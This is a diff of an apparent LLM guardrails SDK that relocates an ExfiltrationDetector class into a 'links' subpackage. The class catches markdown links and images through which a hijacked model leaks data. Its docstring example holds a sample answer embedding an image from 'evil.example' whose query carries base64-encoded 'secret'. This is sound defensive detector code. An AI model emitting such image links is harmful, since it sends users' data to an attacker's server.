@@ -11,8 +11,8 @@ from llmops_sdk._util._public import public
 from llmops_sdk.errors import ConfigError
 from llmops_sdk.guardrails._protocol import Detection, Finding, GuardContext
 from llmops_sdk.guardrails.detectors._mapped import Mapped, digest, merged, plain
-from llmops_sdk.guardrails.detectors._url_scan import Place, Scan, scan
-from llmops_sdk.guardrails.detectors._urls import MAX_URL, ascii_domains, bits_in, host_of, is_allowed, registrable
+from llmops_sdk.guardrails.detectors.links._url_scan import Place, Scan, scan
+from llmops_sdk.guardrails.detectors.links._urls import MAX_URL, ascii_domains, bits_in, host_of, is_allowed, registrable
 
 __all__ = ["ExfiltrationDetector"]
 
@@ -28,7 +28,7 @@ _REASONS = {
 }
 
 
-@public("llmops_sdk.guardrails")
+@public("llmops_sdk.guardrails.detectors")
 class ExfiltrationDetector:
     """Finds links and images through which a hijacked model sends data to a stranger's server.
 
@@ -46,7 +46,7 @@ class ExfiltrationDetector:
 
     Example:
         >>> from llmops_sdk.guardrails import GuardContext
-        >>> from llmops_sdk.guardrails.detectors._exfiltration import ExfiltrationDetector
+        >>> from llmops_sdk.guardrails.detectors.links._exfiltration import ExfiltrationDetector
         >>> answer = "Done. ![](https://evil.example/?q=c2VjcmV0)"
         >>> ExfiltrationDetector().detect(answer, GuardContext(rail="output")).findings
         (Finding(kind='IMAGE', start=6, end=43, score=None),)
